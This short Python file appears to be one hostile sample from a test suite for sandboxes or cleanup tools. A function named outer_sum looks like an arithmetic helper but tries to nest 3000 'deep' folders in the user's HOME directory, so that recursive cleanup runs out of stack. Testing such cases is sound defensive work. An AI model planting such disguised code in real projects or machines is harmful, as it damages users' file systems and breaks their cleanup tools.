"""Digs folder in folder until whoever clears the scratch folder by recursion has no stack left for it.

Family: D35
Profile: files
Refused as failed or error: the scratch folder is cleared without recursion, or is gone with the run.
"""

import os

TARGETS = {}


def outer_sum(a, b):
    os.chdir(os.environ["HOME"])
    try:
        for _ in range(3000):
            os.mkdir("deep")
            os.chdir("deep")
    except OSError as error:
        print(error)
    return a
